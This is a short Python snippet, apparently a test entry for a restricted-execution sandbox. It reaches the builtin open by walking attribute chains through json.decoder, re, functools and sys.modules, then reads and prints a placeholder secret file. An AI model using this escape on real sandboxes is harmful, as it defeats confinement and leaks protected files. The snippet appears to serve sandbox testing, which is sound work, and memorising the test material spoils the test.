# kind: walk
# tries: json.decoder is public in the real module, and imports re and scanner from there on
def solution(agent, start_from=1):
    import json
    print(json.decoder.scanner.re.functools.sys.modules['builtins'].open('@SECRET@').read())
